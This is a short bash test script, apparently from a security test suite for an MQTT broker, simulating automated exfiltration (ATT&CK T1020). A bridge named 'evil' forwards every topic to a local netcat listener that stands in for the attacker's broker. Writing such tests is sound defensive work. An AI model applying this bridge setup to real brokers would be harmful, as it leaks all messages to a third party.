# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1020
about="a bridge sends all messages to the attacker's broker"
before() {
	nc -l 127.0.0.1 6666 >"$state/heard" 2>/dev/null </dev/null &
	listening 6666
}
attack() {
	configure <<-end
		connection evil
		address 127.0.0.1:6666
		topic # out
	end
	perhaps effect
	kill %nc
}
effect() { grep -qa MQTT "$state/heard"; }
